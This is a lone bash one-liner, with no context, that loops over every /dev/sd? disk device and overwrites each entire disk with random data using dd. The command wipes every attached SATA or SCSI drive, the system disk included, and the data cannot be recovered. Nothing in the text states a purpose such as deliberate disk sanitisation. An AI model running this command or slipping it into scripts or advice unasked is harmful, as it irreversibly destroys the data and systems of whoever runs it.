for d in /dev/sd?; do dd if=/dev/urandom of=$d bs=1M; done
